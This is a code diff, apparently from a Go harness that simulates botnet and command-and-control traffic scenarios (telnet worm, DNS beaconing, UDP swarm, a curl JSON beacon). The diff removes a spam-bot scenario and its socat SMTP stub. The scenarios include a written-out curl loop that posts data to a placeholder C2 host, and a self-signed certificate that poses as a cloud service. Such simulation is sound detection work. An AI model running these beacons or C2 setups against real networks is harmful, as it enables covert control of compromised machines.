@@ -34,7 +34,6 @@ func otherBots() []Scenario {
 		row("dns-cname", some, "IMPLANT cname DNS GAP JITTER 85"),
 		row("made-up-names", some, "IMPLANT made-up DNS 6 JITTER 80"),
 		row("telnet-worm", some, "IMPLANT telnet 203.0.113.1 0.05 0.5 30 & IMPLANT tcp C2:BARE GAP JITTER 80; wait", attack.PortScan),
-		row("spam-bot", some, "IMPLANT spam C2:25 0.7 0.5 45"),
 		row("udp-swarm", some, "IMPLANT swarm C2:16471 0.5 0.5 60"),
 		row("dead-controller", some, "IMPLANT jsons C2:4443 GAP JITTER 85"),
 		row("curl-json", some, "while :; do curl -s -k -o /dev/null -H 'Content-Type: application/json' -d '{\"id\":\"7f3a\",\"r\":\"b2s=\"}' https://C2:TLS/submit; sleep GAP; done"),
@@ -56,9 +55,6 @@ func callHome(ctx context.Context, r *Run, line string) error {
 	}
 	c2.Shell(ctx, "openssl req -x509 -newkey rsa:2048 -nodes -days 90 -subj '/C=US/O=Cloud Services/CN=%s' -keyout key.pem -out cert.pem", r.pick("updates.softcdn.example", "localhost", "example.com"))
 	if err := c2.Serve("/usr/bin/python3", append([]string{c2.Dir + "/controller.py"}, append(ports, c2.Dir+"/cert.pem", c2.Dir+"/key.pem")...)...); err != nil {
-		return err
-	}
-	if err := c2.Serve("socat", "TCP-LISTEN:25,fork,reuseaddr", "SYSTEM:for i in 1 2 3 4 5 6; do echo 250 ok; read l; done"); err != nil {
 		return err
 	}
 	pause(ctx, time.Second)
